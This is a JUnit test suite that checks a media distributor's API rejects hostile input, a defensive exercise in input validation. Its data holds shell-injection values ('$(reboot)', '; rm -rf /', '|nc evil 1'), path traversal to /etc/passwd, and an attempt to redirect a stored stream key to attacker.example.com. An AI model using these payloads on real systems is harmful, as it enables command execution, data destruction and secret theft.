package org.medialive.distributor.security;

import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.medialive.distributor.support.Api;
import org.medialive.distributor.support.DistributorServer;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/** Hostile API input, as an operator's broken script or an attacker would send it: 4xx with a reason, nothing created. */
class HostileInputIT {

    private static final String CH = "/api/channels";
    private static final String OUT = "/api/channels/target/outputs";
    private static final String EXISTING = OUT + "/existing";
    private static final String KEYED = OUT + "/keyed";
    private static final String PASSPHRASE = "existing-pass-4471";
    private static final String STREAM_KEY = "stored-key-9182";

    @TempDir
    static Path work;
    static DistributorServer server;
    static Api api;

    @BeforeAll
    static void start() {
        server = new DistributorServer(work.resolve("data"), "hostile", "--distributor.limits.outputs-per-channel=3").start();
        api = server.api();
        assertThat(api.post(CH, "{\"id\":\"target\",\"input\":{\"port\":16000}}").status()).isEqualTo(201);
        assertThat(api.post(OUT, "{\"id\":\"existing\",\"url\":\"srt://127.0.0.1:9000?passphrase=" + PASSPHRASE + "\",\"enabled\":false}").status())
                .isEqualTo(201);
        assertThat(api.post(OUT, "{\"id\":\"keyed\",\"url\":\"rtmps://127.0.0.1:1936/live/" + STREAM_KEY + "\",\"enabled\":false}").status())
                .isEqualTo(201);
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    static Stream<Arguments> hostile() {
        String huge = "x".repeat(70 * 1024);
        return Stream.of(
                arguments("POST", CH, "{\"input\":{\"port\":\"16001\"}}", 400, "wrong type"),
                arguments("POST", CH, "{\"input\":{\"port\":16001.5}}", 400, "wrong type"),
                arguments("POST", CH, "{\"input\":{\"port\":true}}", 400, "wrong type"),
                arguments("POST", CH, "{\"input\":{\"port\":99999999999999}}", 400, "out of range"),
                arguments("POST", CH, "{\"input\":\"16001\"}", 400, "wrong type"),
                arguments("POST", CH, "{\"input\":{\"port\":-1}}", 400, "between 1024 and 65535"),
                arguments("POST", CH, "{\"input\":{\"port\":0}}", 400, "between 1024 and 65535"),
                arguments("POST", CH, "{\"input\":{\"port\":22}}", 400, "reserved for system services"),
                arguments("POST", CH, "{\"input\":{\"port\":443}}", 400, "reserved for system services"),
                arguments("POST", CH, "{\"id\":\"../../etc/passwd\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "{\"id\":\"..\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "{\"id\":\"a/b\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "{\"id\":\"café\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "{\"id\":\"x\\u0000y\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "{\"id\":\"" + "a".repeat(33) + "\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "{\"name\":\"" + "n".repeat(5000) + "\",\"input\":{\"port\":16001}}", 400, "at most 100 characters"),
                arguments("POST", CH, "{\"name\":\"line\\nbreak\",\"input\":{\"port\":16001}}", 400, "control characters"),
                arguments("POST", CH, "{\"name\":\"" + huge + "\",\"input\":{\"port\":16001}}", 413, "larger than 64 KB"),
                arguments("POST", CH, "{\"id\":\"target\",\"input\":{\"port\":16002}}", 409, "already exists"),
                arguments("POST", CH, "{\"id\":\"dup-port\",\"input\":{\"port\":16000}}", 409, "already used"),
                arguments("POST", CH, "{\"input\":{\"port\":16001,\"bind\":\"$(reboot)\"}}", 400, "input.bind"),
                arguments("POST", CH, "{\"input\":{\"port\":16001,\"sourceAddress\":\"10.0.0.1; rm -rf /\"}}", 400, "input.sourceAddress"),
                arguments("POST", CH, "{\"input\":{\"port\":16001,\"multicastGroup\":\"239.1.1.1\",\"interface\":\"eth0;reboot\"}}", 400, "network interface name"),
                arguments("POST", CH, "{\"input\":{\"port\":16001},\"__proto__\":{}}", 400, "unknown field"),
                arguments("POST", CH, "null", 400, "JSON object"),
                arguments("POST", CH, "\"just a string\"", 400, "JSON object"),
                arguments("POST", CH, "{\"input\":{\"port\":16001}} trailing", 400, "not valid JSON"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000?streamid=`id`\"}", 400, "'`'"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000?passphrase=abc$(id)defg\"}", 400, "'$'"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000|nc evil 1\"}", 400, "'|'"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000 -o /etc/passwd\"}", 400, "a space"),
                arguments("POST", OUT, "{\"url\":\"rtmp://cdn/live/key\\n--help\"}", 400, "control character"),
                arguments("POST", OUT, "{\"url\":\"file:///etc/passwd\"}", 400, "unknown scheme"),
                arguments("POST", OUT, "{\"url\":\"srt://ünïcode.example:9000\"}", 400, "non-ASCII"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:70000\"}", 400, "between 1 and 65535"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:-1\"}", 400, "whole number"),
                arguments("POST", OUT, "{\"url\":\"" + "srt://h:9000?streamid=" + "a".repeat(3000) + "\"}", 400, "longer than 2048"),
                arguments("POST", OUT, "{\"id\":\"existing\",\"url\":\"srt://127.0.0.1:9001\"}", 409, "already has an output"),
                arguments("POST", OUT, "{\"id\":\"../x\",\"url\":\"srt://127.0.0.1:9001\"}", 400, "output id must be"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9001\",\"audio\":\"pid:482\"}", 400, "RTMP outputs only"),
                arguments("POST", OUT, "{\"url\":\"rtmp://h/live/k\",\"audio\":\"lang:english; rm\"}", 400, "audio must be"),
                arguments("DELETE", CH + "/..%2F..%2Fetc", null, 400, "encoded slash"),
                arguments("GET", CH + "/target/outputs/..%2Fexisting", null, 400, "encoded slash"),
                arguments("DELETE", CH + "/..", null, 400, "the URL was refused"),
                // a kept secret (***) may not follow the URL elsewhere: it would send the stored secret there
                arguments("PUT", KEYED, "{\"url\":\"rtmp://127.0.0.1:1936/live/***\"}", 400, "scheme changed"),
                arguments("PUT", KEYED, "{\"url\":\"rtmps://attacker.example.com:1936/live/***\"}", 400, "host changed"),
                arguments("PUT", KEYED, "{\"url\":\"rtmps://127.0.0.1:1937/live/***\"}", 400, "port changed"),
                arguments("PUT", KEYED, "{\"url\":\"rtmps://127.0.0.1/live/***\"}", 400, "port changed"),
                arguments("PUT", KEYED, "{\"url\":\"rtmps://127.0.0.1:1936/other/***\"}", 400, "path changed"),
                arguments("PUT", KEYED, "{\"url\":\"rtmps://***@127.0.0.1:1936/live/new-key\"}", 400, "***"),
                arguments("PUT", EXISTING, "{\"url\":\"srt://198.51.100.9:9000?passphrase=***\"}", 400, "host changed"),
                arguments("PUT", EXISTING, "{\"url\":\"srt://127.0.0.1:9001?passphrase=***\"}", 400, "port changed"),
                arguments("PUT", EXISTING, "{\"url\":\"srt://127.0.0.1:9000?passphrase=***&streamid=***\"}", 400, "still contains ***"),
                arguments("PUT", EXISTING, "{\"id\":\"renamed\",\"url\":\"srt://127.0.0.1:9000\"}", 400, "differs from the path"),
                arguments("PUT", OUT + "/nope", "{\"url\":\"srt://127.0.0.1:9000\"}", 404, "no output with id 'nope'"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9005?passphrase=***\"}", 400, "still contains ***"),
                arguments("POST", OUT, "{\"url\":\"rtmp://127.0.0.1/live/***\"}", 400, "still contains ***"),
                // more broken or malicious URLs and bodies
                arguments("POST", OUT, "{\"url\":\"srt://[::1:9000\"}", 400, "malformed IPv6"),
                arguments("POST", OUT, "{\"url\":\"srt://-bad-.example:9000\"}", 400, "not a valid host name"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000?passphrase=short\"}", 400, "passphrase must be 10 to 79"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000?exec=/bin/sh\"}", 400, "unknown SRT option"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9000/path\"}", 400, "no path"),
                arguments("POST", OUT, "{\"url\":\"rtmp://user:pa%24%24@h/live/k\"}", 400, "user:password"),
                arguments("POST", OUT, "{\"url\":[\"srt://127.0.0.1:9000\"]}", 400, "wrong type"),
                arguments("POST", OUT, "{\"url\":\"srt://127.0.0.1:9006\",\"enabled\":\"yes\"}", 400, "wrong type"),
                arguments("POST", CH, "{\"id\":\"x\u202eevil\",\"input\":{\"port\":16001}}", 400, "channel id must be"),
                arguments("POST", CH, "[]", 400, "JSON object"),
                // users and tokens: names that could forge log lines, roles that do not exist
                arguments("POST", "/api/users", "{\"username\":\"eve\\nINFO forged\",\"password\":\"long-enough-password\",\"role\":\"viewer\"}", 400, "username must be"),
                arguments("POST", "/api/users", "{\"username\":\"eve\",\"password\":\"long-enough-password\",\"role\":\"root\"}", 400, "role must be"),
                arguments("POST", "/api/users", "{\"username\":\"eve\",\"password\":\"short\",\"role\":\"viewer\"}", 400, "password must be"),
                arguments("POST", "/api/tokens", "{\"name\":\"\",\"role\":\"viewer\"}", 400, "token name is required"),
                arguments("POST", "/api/tokens", "{\"name\":\"ci\\r\\nforged\",\"role\":\"viewer\"}", 400, "token name is required"),
                arguments("POST", "/api/tokens", "{\"name\":\"ci\",\"role\":\"superuser\"}", 400, "role must be"),
                arguments("DELETE", "/api/tokens/nope", null, 404, "no API token with id 'nope'"));
    }

    @ParameterizedTest(name = "{index}: {0} {1}")
    @MethodSource("hostile")
    void refusedWithAReason(String method, String path, String body, int status, String reason) {
        Api.Response response = switch (method) {
            case "GET" -> api.get(path);
            case "DELETE" -> api.delete(path);
            case "PUT" -> api.put(path, body);
            default -> api.post(path, body);
        };
        assertThat(response.status()).as(response.body()).isEqualTo(status);
        if (reason != null) {
            assertThat(response.error()).as(response.body()).contains(reason);
        } else {
            assertThat(response.status()).isBetween(400, 499);
        }
    }

    @Test
    void refusedEditsKeepTheStoredSecretsWhereTheyWere() {
        refusedWithAReason("PUT", KEYED, "{\"url\":\"rtmps://attacker.example.com:1936/live/***\"}", 400, "host changed");
        assertThat(api.ok(KEYED).path("url").asText()).isEqualTo("rtmps://127.0.0.1:1936/live/***");
        assertThat(api.ok(EXISTING).path("url").asText()).startsWith("srt://127.0.0.1:9000?").contains("passphrase=***");
        String stored = readStore();
        assertThat(stored).contains("rtmps://127.0.0.1:1936/live/" + STREAM_KEY).contains("passphrase=" + PASSPHRASE)
                .doesNotContain("attacker");
    }

    @Test
    void theCallerCannotBeSetByAHeaderOrAQueryParameter() {
        Api.Response me = api.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(server.baseUrl() + "/api/me?X-Distributor-User=mallory&X-Distributor-Role=operator"))
                .header("X-Distributor-User", "mallory").GET());
        assertThat(me.json().path("user").asText()).isEqualTo("admin");
        Api.Response token = api.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(server.baseUrl() + "/api/tokens?X-Distributor-User=mallory"))
                .header("X-Distributor-User", "mallory").header("Content-Type", "application/json")
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString("{\"name\":\"spoof\",\"role\":\"viewer\"}")));
        assertThat(token.status()).isEqualTo(201);
        assertThat(api.ok("/api/tokens").findValues("createdBy")).extracting(com.fasterxml.jackson.databind.JsonNode::asText)
                .contains("admin").doesNotContain("mallory");
        Api viewer = server.anonymous().withToken(token.json().path("token").asText());
        Api.Response escalate = viewer.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(server.baseUrl() + CH))
                .header("X-Distributor-Role", "operator").header("Content-Type", "application/json")
                .POST(java.net.http.HttpRequest.BodyPublishers.ofString("{\"input\":{\"port\":16009}}")));
        assertThat(escalate.status()).isEqualTo(403);
        assertThat(viewer.get("/api/me?X-Distributor-User=mallory").json().path("user").asText()).isEqualTo("token:spoof");
    }

    private static String readStore() {
        try {
            return java.nio.file.Files.readString(work.resolve("data").resolve("distributor.json"));
        } catch (java.io.IOException e) {
            throw new AssertionError(e);
        }
    }

    @Test
    void limitsAreEnforcedWithTheSettingNamed() {
        assertThat(api.post(OUT, "{\"id\":\"second\",\"url\":\"srt://127.0.0.1:9002\",\"enabled\":false}").status()).isEqualTo(201);
        Api.Response third = api.post(OUT, "{\"id\":\"third\",\"url\":\"srt://127.0.0.1:9003\",\"enabled\":false}");
        assertThat(third.status()).isEqualTo(422);
        assertThat(third.error()).contains("distributor.limits.outputs-per-channel");
        assertThat(api.delete(OUT + "/second").status()).isEqualTo(204);
    }

    @Test
    void nothingWasCreatedAndNoStackTraceLogged() {
        refusedWithAReason("POST", CH, "{\"input\":{\"port\":22}}", 400, "reserved");
        assertThat(api.ok(CH).findValuesAsText("id")).startsWith("target", "existing").doesNotContain("dup-port", "..", "café");
        assertThat(api.ok(CH).size()).isEqualTo(1);
        assertThat(api.ok(OUT).findValuesAsText("id")).containsExactlyInAnyOrder("existing", "keyed");
        assertThat(api.ok("/api/users").findValuesAsText("username")).doesNotContain("eve");
        assertThat(api.ok("/api/tokens").findValuesAsText("name")).doesNotContain("", "ci");
        String everything = api.get(OUT).body() + api.get("/api/audit").body() + server.logText();
        assertThat(everything).doesNotContain(PASSPHRASE).doesNotContain(STREAM_KEY);
        assertThat(server.errorsInLog()).isEmpty();
    }
}
